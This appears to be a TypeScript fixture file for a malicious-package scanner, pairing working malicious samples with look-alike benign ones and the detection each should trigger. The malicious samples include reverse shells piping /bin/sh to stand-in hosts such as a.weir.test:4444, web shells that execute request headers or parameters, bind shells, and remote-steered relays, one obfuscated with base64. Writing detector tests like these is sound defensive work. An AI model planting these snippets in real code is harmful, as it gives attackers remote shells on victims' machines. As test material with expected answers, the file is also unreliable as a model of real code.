import type { Samples } from '../contract.ts';
import { at, hide, imported, installed, quiet, wheel } from '../samples-kit.ts';

/** Loads a package that asks its own server something, and goes on in a connection as `options` say. */
const upgraded = (
  options: string,
): string => `const net = require('net'), tls = require('tls'), WebSocket = require('ws');
const link = new WebSocket('wss://a.weir.test/exit');
function secured(socket, host, more) {
  const options = { socket, servername: host, ...more };
  if (exports.ca) options.ca = exports.ca;
  return options;
}
const connected = (options) => new Promise((resolve) => {
  const made = tls.connect(options);
  made.once('secureConnect', () => resolve(made));
});
const first = net.connect(exports.port, exports.host);
link.on('message', (raw) => {
  const said = JSON.parse(raw);
  connected(${options});
});
`;

export const samples: Samples = {
  malicious: [
    {
      name: 'a shell that one file starts is joined with the connection of another',
      files: imported(
        "const { open } = require('./open');\nconst { Bridge } = require('./bridge');\nopen({ host: 'a.weir.test', port: 4000 }).then((one) => new Bridge(one).to({ bin: '/bin/sh', args: ['-i'] }));\n",
        {
          'open.js':
            "const net = require('net');\nexports.open = ({ host, port }) => new Promise((resolve) => {\n  const socket = net.connect({ host, port });\n  socket.once('connect', () => resolve(socket));\n});\n",
          'bridge.js':
            "const { spawn } = require('child_process');\nexports.Bridge = class {\n  constructor(stream) { this.stream = stream; }\n  to({ bin, args }) {\n    const child = spawn(bin, args);\n    const ends = { in: child.stdin, out: child.stdout };\n    this.stream.pipe(ends.in);\n    ends.out.pipe(this.stream);\n  }\n};\n",
        },
      ),
      expected: [at('reverse-shell', 'high', 'bridge.js', 5)],
    },
    {
      name: 'a class of its own hands what a fixed host says to a shell that reads commands',
      files: imported(
        "const net = require('net'), cp = require('child_process');\nclass Outlet {\n  constructor({ host = '127.0.0.1', port = 514 } = {}) { Object.assign(this, { host, port, queue: [] }); }\n  open() { const socket = net.connect(this.port, this.host); socket.on('connect', () => this.ready(socket)); }\n  ready(socket) { this.queue.forEach((line) => socket.write(line)); }\n}\nclass Console extends Outlet {\n  constructor() { super({ host: 'console.weir.test', port: 443 }); }\n  ready(socket) {\n    const child = cp.spawn('/bin/sh', ['-s']);\n    socket.pipe(child.stdin);\n    child.stdout.pipe(socket);\n  }\n}\nexports.ship = (options, all) => { new Outlet(options).open(); if (all) new Console().open(); };\n",
      ),
      expected: [at('reverse-shell', 'high', 'index.js', 10)],
    },
    ...(
      [
        ['beside no connection', '{ host: said.host, port: said.port, socket: undefined }'],
        ['beside one that is there already', 'secured(first, exports.host, { host: said.host })'],
        ['in all of what is given', '{ ...said, socket: first }'],
      ] as const
    ).map(([name, options]) => ({
      name: `a server says where to go on to, ${name}`,
      files: imported(upgraded(options)),
      expected: [at('relay', 'high', 'index.js', 9)],
    })),
    {
      name: 'a route that runs a header',
      files: imported(
        `const { execSync } = require('child_process');\nmodule.exports = (app) => {\n  app.get('/healthz', (request, response) => {\n    const probe = request.get('x-probe');\n    if (probe) return response.send(execSync(Buffer.from(probe, 'base64').toString()));\n    response.json({ ok: true });\n  });\n};\n`,
      ),
      expected: [at('web-shell', 'high', 'index.js', 5)],
    },
    {
      name: 'a middleware that evaluates a parameter',
      files: imported(
        `module.exports = () => (req, res, next) => {\n  if (req.query._t) return res.end(String((0, eval)(req.query._t)));\n  next();\n};\n`,
      ),
      expected: [at('web-shell', 'high', 'index.js', 2)],
    },
    {
      name: 'a server of its own, at import',
      files: imported(
        `const http = require('http'), cp = require('child_process');\nhttp.createServer((q, s) => {\n  cp.exec(decodeURIComponent(q.url.slice(1)), (e, out) => s.end(out));\n}).listen(8731);\n`,
      ),
      expected: [at('web-shell', 'high', 'index.js', 3)],
    },
    {
      name: 'a shell for whoever connects, at import',
      files: imported(
        `const net = require('net'), cp = require('child_process');\nnet.createServer((socket) => {\n  const sh = cp.spawn('/bin/sh', []);\n  socket.pipe(sh.stdin);\n  sh.stdout.pipe(socket);\n}).listen(4444);\n`,
      ),
      expected: [at('web-shell', 'high', 'index.js', 4)],
    },
    {
      name: 'messages of a socket that are run by a shell',
      files: imported(
        `const { WebSocketServer } = require('ws'), { spawn } = require('child_process');\nnew WebSocketServer({ port: 8731 }).on('connection', (link) => {\n  link.on('message', (text) => spawn('sh', ['-c', String(text)]));\n});\n`,
      ),
      expected: [at('web-shell', 'high', 'index.js', 3)],
    },
    {
      name: 'connections to where a server says',
      files: imported(
        `const net = require('net'), WebSocket = require('ws');\nconst link = new WebSocket('wss://a.weir.test/exit');\nlink.on('message', (raw) => {\n  const { host, port } = JSON.parse(raw);\n  net.connect(port, host).on('data', (part) => link.send(part));\n});\n`,
      ),
      expected: [at('relay', 'high', 'index.js', 5)],
    },
    {
      name: 'a function that joins a terminal with a server of the package',
      files: imported(
        `const pty = require('node-pty'), WebSocket = require('ws');\nexports.record = () => {\n  const link = new WebSocket('wss://a.weir.test/live');\n  const term = pty.spawn('bash', []);\n  link.on('message', (text) => term.write(text));\n};\n`,
      ),
      expected: [at('reverse-shell', 'high', 'index.js', 4)],
    },
    {
      name: 'Python: a function that joins a shell with a socket',
      files: wheel(
        'import os, pty, socket\ndef attach():\n    link = socket.socket()\n    link.connect(("203.0.113.7", 4444))\n    os.dup2(link.fileno(), 0)\n    pty.spawn("/bin/sh")\n',
      ),
      expected: [{ rule: 'reverse-shell', file: 'own/__init__.py', line: 6, severity: 'high' }],
    },
    {
      name: 'Python: a shell on a socket',
      files: wheel(
        'import socket, subprocess, os\ns = socket.socket()\ns.connect(("a.weir.test", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])\n',
      ),
      expected: [{ rule: 'reverse-shell', file: 'own/__init__.py', line: 5, severity: 'high' }],
    },
    {
      name: 'a shell on a socket',
      files: installed(
        `const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst client = new net.Socket();\nclient.connect(4444, 'a.weir.test', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });\n`,
      ),
      expected: [at('reverse-shell', 'critical', 'setup.js', 2)],
    },
    {
      name: 'by the platform, at import',
      files: imported(
        `const { spawn } = require('child_process');\nconst s = require('net').connect({ host: 'a.weir.test', port: 1 });\nconst p = spawn(process.platform === 'win32' ? 'cmd.exe' : 'bash');\ns.pipe(p.stdin);\n`,
      ),
      expected: [at('reverse-shell', 'high', 'index.js', 3)],
    },
    {
      name: 'with hidden names',
      files: installed(
        `const n = require(Buffer.from('${hide('net')}', 'base64').toString()), c = require('child_' + 'process');\nconst sh = c['sp' + 'awn']('bash', ['-i']);\nconst k = n.createConnection(1, 'a.weir.test');\nk.pipe(sh.stdin);\n`,
      ),
      expected: [at('reverse-shell', 'critical', 'setup.js', 2)],
    },
    {
      name: 'Python: a middleware that runs a header',
      files: wheel(
        'import subprocess\nclass Probe:\n    def __init__(self, get_response):\n        self.get_response = get_response\n    def __call__(self, request):\n        if request.headers.get("X-Probe"):\n            return subprocess.getoutput(request.headers["X-Probe"])\n        return self.get_response(request)\n',
      ),
      expected: [at('web-shell', 'high', 'own/__init__.py', 7)],
    },
    {
      name: 'Python: a page of an extension',
      files: wheel(
        'from flask import request\ndef page():\n    exec(request.headers["X-Probe"])\ndef init_app(app):\n    app.before_request(page)\n',
      ),
      expected: [at('web-shell', 'high', 'own/__init__.py', 3)],
    },
    {
      name: 'Python: a server that loading the package starts',
      files: wheel(
        'import os, threading\nfrom http.server import BaseHTTPRequestHandler, HTTPServer\nclass Own(BaseHTTPRequestHandler):\n    def do_GET(self):\n        os.system(self.headers["X-Probe"])\nthreading.Thread(target=HTTPServer(("", 8080), Own).serve_forever, daemon=True).start()\n',
      ),
      expected: [at('web-shell', 'high', 'own/__init__.py', 5)],
    },
    {
      name: 'Python: a program that listens to be told what to run',
      files: wheel(
        'import os\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.post("/run")\ndef run(line: str):\n    return os.system(line)\n',
      ),
      expected: [at('web-shell', 'medium', 'own/__init__.py', 6)],
    },
  ],
  benign: [
    quiet(
      'a class that ships lines to a host that its user says, and one that sorts them',
      imported(
        "const net = require('net'), cp = require('child_process');\nclass Outlet {\n  constructor({ host = '127.0.0.1', port = 514 } = {}) { Object.assign(this, { host, port, queue: [] }); }\n  open() { const socket = net.connect(this.port, this.host); socket.on('connect', () => this.ready(socket)); }\n  ready(socket) { this.queue.forEach((line) => socket.write(line)); }\n}\nclass Sorted extends Outlet {\n  ready(socket) {\n    const child = cp.spawn('sort', ['-u']);\n    this.queue.forEach((line) => child.stdin.write(line));\n    child.stdout.pipe(socket);\n  }\n}\nexports.ship = (options, sorted) => (sorted ? new Sorted(options) : new Outlet(options)).open();\n",
      ),
    ),
    quiet(
      'a program that is fed a text, beside a file that tries a port',
      imported(
        "const { open } = require('./open');\nconst { Bridge } = require('./bridge');\nexports.wait = (host, port) => open({ host, port }).then((one) => one.end());\nexports.feed = (stream) => new Bridge(stream).to({ bin: 'sort', args: ['-u'] });\n",
        {
          'open.js':
            "const net = require('net');\nexports.open = ({ host, port }) => new Promise((resolve) => {\n  const socket = net.connect({ host, port });\n  socket.once('connect', () => resolve(socket));\n});\n",
          'bridge.js':
            "const { spawn } = require('child_process');\nexports.Bridge = class {\n  constructor(stream) { this.stream = stream; }\n  to({ bin, args }) {\n    const child = spawn(bin, args);\n    const ends = { in: child.stdin, out: child.stdout };\n    this.stream.pipe(ends.in);\n    ends.out.pipe(this.stream);\n  }\n};\n",
        },
      ),
    ),
    quiet(
      'a route that opens the file of a request in an editor',
      imported(
        `const { execFile } = require('child_process');\nmodule.exports = (app, editor) => {\n  app.get('/open', (req, res) => {\n    execFile(editor, [req.query.file]);\n    res.end();\n  });\n};\n`,
      ),
    ),
    quiet(
      'a route that asks git about a file',
      imported(
        `const { execSync } = require('child_process');\nmodule.exports = (app) => {\n  app.get('/log', (req, res) => res.send(execSync('git log -- ' + JSON.stringify(req.query.file))));\n};\n`,
      ),
    ),
    quiet(
      'a route that starts what its maker was given',
      imported(
        `const { exec } = require('child_process');\nmodule.exports = (app, command) => {\n  app.post('/deploy', (req, res) => exec(command, () => res.end(req.query.id)));\n};\n`,
      ),
    ),
    quiet(
      'a connection that is there already goes on as TLS',
      imported(upgraded('secured(first, exports.host, { minVersion: "TLSv1.2" })')),
    ),
    quiet(
      'a connection through another one, which is given in place',
      imported(
        `const net = require('net'), tls = require('tls'), WebSocket = require('ws');\nnew WebSocket('wss://a.weir.test/news');\nconst first = net.connect(exports.port, exports.host);\nfirst.once('connect', () => tls.connect({ ...exports.settings, socket: first }));\n`,
      ),
    ),
    quiet(
      'Python: a view that runs one of its commands',
      wheel(
        'import subprocess\nTASKS = {"status": ["git", "status"], "log": ["git", "log"]}\ndef view(request):\n    return subprocess.check_output(TASKS[request.GET["task"]])\n',
      ),
    ),
    quiet(
      'Python: a view that asks a program about a file',
      wheel(
        'import subprocess\ndef view(request):\n    return subprocess.check_output(["git", "log", "--", request.GET["file"]])\n',
      ),
    ),
    quiet(
      'Python: a runner of what its callers hand over',
      wheel(
        'import subprocess\nclass Runner:\n    def run(self, request):\n        return subprocess.run(request.args, cwd=request.path)\n',
      ),
    ),
    quiet(
      'Python: a job of a store that a page starts',
      wheel(
        'import subprocess\nfrom .models import Job\ndef view(request, pk):\n    return subprocess.run(Job.objects.get(pk=request.POST["job"]).command, shell=True)\n',
      ),
    ),
    quiet(
      'Python: a server of log records, which unpickles them',
      wheel(
        'import logging, pickle, socketserver\nclass Records(socketserver.StreamRequestHandler):\n    def handle(self):\n        record = logging.makeLogRecord(pickle.loads(self.connection.recv(4096)))\n        logging.getLogger(record.name).handle(record)\n',
      ),
    ),
    quiet(
      'Python: the console of a page that shows errors',
      wheel(
        'import code\ndef view(request):\n    return code.InteractiveConsole().push(request.GET["line"])\n',
      ),
    ),
    quiet(
      'connections to where a caller says',
      imported(
        `const net = require('net'), WebSocket = require('ws');\nexports.join = (url) => {\n  const link = new WebSocket(url);\n  link.on('message', (raw) => {\n    const { host, port } = JSON.parse(raw);\n    net.connect(port, host).on('data', (part) => link.send(part));\n  });\n};\n`,
      ),
    ),
    quiet(
      'Python: a client of a server',
      wheel(
        'import socket\ndef ask():\n    s = socket.create_connection(("a.weir.test", 80))\n    s.sendall(b"hi")\n    return s.recv(10)\n',
      ),
    ),
    quiet(
      'a terminal',
      imported(
        `const { spawn } = require('child_process');\nexports.open = () => spawn('bash', ['-i'], { stdio: 'inherit' });\n`,
      ),
    ),
    quiet(
      'a build beside a socket',
      imported(
        `const net = require('net'), cp = require('child_process');\nexports.check = (port) => net.connect(port);\nexports.build = () => cp.spawn('bash', ['build.sh']);\n`,
      ),
    ),
    quiet('an echo server', imported(`require('net').createServer((socket) => socket.pipe(socket));\n`)),
  ],
};
